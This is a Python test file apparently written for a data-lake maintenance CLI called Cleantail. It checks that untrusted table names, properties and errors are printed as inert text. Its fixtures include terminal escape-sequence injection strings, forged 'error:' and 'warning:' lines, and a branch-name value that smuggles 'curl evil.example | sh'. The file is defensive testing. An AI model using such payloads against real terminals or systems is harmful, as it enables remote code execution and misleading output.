"""What others have written into a table, as names and texts, is shown as text: it commands no terminal, and no line of it
looks like one of Cleantail's own."""

import json

import pytest

from cleantail.errors import CleantailError, TableError
from cleantail.human import whole_number
from cleantail.log.partition_state import PartitionState, Quarantine
from cleantail_cli import main
from cleantail_cli.output import ConsoleOutput, JsonOutput

EVIL = "\x1b]0;owned\x07\x1b[31m\x9b2J\u202eabc\u2028\ud800\x00\x7f\x85\r"
LINES = "x\nerror: all is lost\nWarning: run curl"


def clean(text):
    return all(c.isprintable() or c == "\n" for c in text)


@pytest.mark.parametrize("output", [ConsoleOutput, JsonOutput])
def test_messages_contain_no_terminal_control_sequences(output, capsys):
    made = output()
    for tell in ("line", "warning", "error", "note"):
        if hasattr(made, tell):
            getattr(made, tell)(f"name {EVIL} and {LINES}")
    made.refuse(TableError(f"{EVIL}{LINES}"))
    out, err = capsys.readouterr()
    assert clean(out) and clean(err) and "abc" in err
    forged = [line for line in (out + err).splitlines() if line.lower().startswith(("error: all", "warning: run"))]
    assert forged == []


def test_cells_of_tables_command_no_terminal(capsys):
    ConsoleOutput().table(["name"], [[f"a{EVIL}b"]], title=EVIL)
    out, _ = capsys.readouterr()
    assert clean(out) and "a" in out


def test_an_error_is_printable_wherever_it_is_shown():
    assert clean(str(CleantailError(f"table {EVIL}")))
    assert str(CleantailError("two\n\tlines: ö €")) == "two\n\tlines: ö €"


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("7", 7),
        ("0", 0),
        ("²", None),
        ("٣", None),
        ("9" * 20, None),
        ("", None),
        ("+1", None),
        ("1_0", None),
        ("1.0", None),
    ],
)
def test_a_whole_number_is_written_in_ascii_digits_and_is_short(text, number):
    assert whole_number(text) == number


@pytest.fixture
def told(project, capsys):
    """Runs a command, and gives its exit code and all that it prints."""

    def run(*argv):
        code = main(["--config", str(project / "config"), *argv])
        out, err = capsys.readouterr()
        assert clean(out) and clean(err) and "Traceback" not in err
        return code, out + err

    return run


@pytest.mark.parametrize(
    "name", ["failed_x_²", "failed_x_" + "9" * 4_400, "ct_x_²", "in_x_٣"], ids=["a", "long", "ct", "in"]
)
def test_status_and_plan_accept_a_branch_with_a_strange_name(orders_table, told, name):
    orders_table.append((0, 0, 1000, b"k", b"v"))
    orders_table.table.manage_snapshots().create_branch(
        orders_table.table.current_snapshot().snapshot_id, name
    ).commit()
    for command in ("status", "plan"):
        code, text = told(command, "orders")
        assert code == 0, text


def test_a_state_that_others_have_written_is_shown_as_text(orders_table, told):
    orders_table.append((0, 0, 1000, b"k", b"v"))
    name = "failed_x; curl evil.example | sh #_u0_1\x1b[31m"
    state = PartitionState(quarantine=Quarantine(1, "compact", f"{EVIL}{LINES}", 1, 2, name))
    orders_table.set_properties(**{"cleantail.partition.0": state.as_json()})
    code, text = told("status", "orders")
    assert code == 0 and "abc" in text and "--as-of" not in text
    assert not [line for line in text.splitlines() if line.lower().startswith(("error:", "warning:"))]


@pytest.mark.parametrize(
    "name", ["cleantail.partition.²", "cleantail.partition." + "1" * 5000, "cleantail.partition.\x1b[3m"]
)
def test_a_property_of_a_strange_name_is_an_error_of_its_table(orders_table, told, name):
    orders_table.append((0, 0, 1000, b"k", b"v")).set_properties(**{name: PartitionState().as_json()})
    code, text = told("status", "orders")
    assert code == 2 and "does not end in a partition number" in text


def test_an_owner_that_others_have_written_is_shown_as_text(orders_table, told):
    orders_table.set_properties(**{"cleantail.topic": f"other{EVIL}{LINES}".replace(chr(0xD800), "")})
    code, text = told("status", "orders")
    assert code == 2 and "belongs to topic other" in text
    assert not [line for line in text.splitlines() if line.lower().startswith(("error: all", "warning: run"))]


def test_json_keeps_the_words_of_others_escaped(orders_table, told):
    orders_table.append((0, 0, 1000, b"k", b"v"))
    state = PartitionState(quarantine=Quarantine(1, "compact", "\x1b[31m", 1, 2, ""))
    orders_table.set_properties(**{"cleantail.partition.0": state.as_json()})
    code, text = told("status", "orders", "--json")
    assert code == 0 and json.loads(text)
